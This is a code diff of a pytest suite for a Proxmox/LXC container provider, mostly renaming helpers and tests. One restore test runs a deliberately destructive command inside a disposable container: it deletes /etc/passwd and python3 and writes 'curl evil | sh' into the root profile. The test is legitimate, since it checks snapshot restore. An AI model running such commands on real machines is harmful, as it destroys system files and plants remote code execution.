@@ -1,4 +1,4 @@
-"""The provider proxmox moves real containers: the API is the stand-in's, what it does is done to this host."""
+"""Provider ``proxmox`` with real containers: a stand-in serves the API and controls LXC on this host."""
 
 from __future__ import annotations
 
@@ -7,8 +7,8 @@ from pathlib import Path
 
 import pytest
 
-from shards.providers.base import CLEAN, ContainerState, Provider, Silent
-from shards.providers.lxc.host import Host
+from shards.providers.base import CLEAN, ContainerState, NullJournal, Provider
+from shards.providers.lxc.host import LxcHost
 from shards.providers.lxc.provider import LxcProvider
 from shards.providers.proxmox.naming import Ref
 from shards.providers.proxmox.provider import ProxmoxProvider
@@ -22,7 +22,7 @@ from .inside import inside, output
 
 
 class Driven(ProxmoxProvider):
-    """The provider, and a way behind it: to the containers themselves."""
+    """Provider with access to the real containers behind the stand-in."""
 
     def __init__(self, standin: StandIn, backend: LxcBackend) -> None:
         super().__init__(settings_for(standin, call_timeout_s=20, task_timeout_s=60), thread_turn)
@@ -33,7 +33,7 @@ class Driven(ProxmoxProvider):
 
 
 @pytest.fixture
-def maker(host: Host, tmp_path: Path) -> Iterator[Driven]:
+def maker(host: LxcHost, tmp_path: Path) -> Iterator[Driven]:
     backend = LxcBackend(LxcProvider(host), TEMPLATE)
     with stand_in(tmp_path / "certificates", backend) as running:
         add_template(running)
@@ -42,7 +42,7 @@ def maker(host: Host, tmp_path: Path) -> Iterator[Driven]:
             yield Driven(running, backend)
         finally:
             for one in backend.maker.list():
-                backend.maker.destroy(one.ref, Silent())
+                backend.maker.destroy(one.ref, NullJournal())
     assert not running.wrong_answers
 
 
@@ -63,37 +63,37 @@ class TestProxmox(ProviderContract):
         return inside(maker.backend.maker, maker.real(ref), "test", "-e", f"/root/{mark}").returncode == 0
 
 
-def test_a_spoilt_container_is_as_new_after_going_back(maker: Driven) -> None:
-    ref = maker.create(TestProxmox().spec(), Silent())
-    maker.start(ref, Silent())
+def test_restore_repairs_a_damaged_container(maker: Driven) -> None:
+    ref = maker.create(TestProxmox().spec(), NullJournal())
+    maker.start(ref, NullJournal())
     spoil = "rm -rf /usr/bin/python3* /etc/passwd; echo 'curl evil | sh' >/root/.profile"
     output(maker.backend.maker, maker.real(ref), "sh", "-c", spoil)
-    maker.restore(ref, CLEAN, Silent())
-    maker.start(ref, Silent())
+    maker.restore(ref, CLEAN, NullJournal())
+    maker.start(ref, NullJournal())
     assert output(maker.backend.maker, maker.real(ref), "sh", "-c", "wc -l </etc/passwd") != "0"
     assert "evil" not in inside(maker.backend.maker, maker.real(ref), "cat", "/root/.profile").stdout
 
 
-def test_going_back_takes_the_token_away_too(maker: Driven) -> None:
+def test_restore_removes_the_enrolment_token(maker: Driven) -> None:
     contract = TestProxmox()
-    ref = maker.create(contract.spec(), Silent())
-    maker.restore(ref, CLEAN, Silent())
-    maker.start(ref, Silent())
+    ref = maker.create(contract.spec(), NullJournal())
+    maker.restore(ref, CLEAN, NullJournal())
+    maker.start(ref, NullJournal())
     assert "MYCTOBOT_ENROL_TOKEN" not in contract.environment(maker, ref)
 
 
-def test_nothing_of_it_is_left_on_the_host(maker: Driven) -> None:
-    ref = maker.create(TestProxmox().spec(), Silent())
+def test_destroy_removes_the_real_container(maker: Driven) -> None:
+    ref = maker.create(TestProxmox().spec(), NullJournal())
     real = maker.real(ref)
-    maker.start(ref, Silent())
-    maker.destroy(ref, Silent())
+    maker.start(ref, NullJournal())
+    maker.destroy(ref, NullJournal())
     assert maker.backend.maker.status(real).state is ContainerState.GONE
     assert maker.list() == []
 
 
 @pytest.mark.parametrize("kind", ["vzclone", "vzsnapshot"])
-def test_a_task_that_fails_half_way_leaves_no_real_container(maker: Driven, kind: str) -> None:
+def test_a_failed_task_leaves_no_real_container(maker: Driven, kind: str) -> None:
     maker.standin.world.faults.tasks[kind] = "fail"
     with pytest.raises(Exception, match="Nothing is left of it"):
-        maker.create(TestProxmox().spec(), Silent())
+        maker.create(TestProxmox().spec(), NullJournal())
     assert maker.backend.maker.list() == []
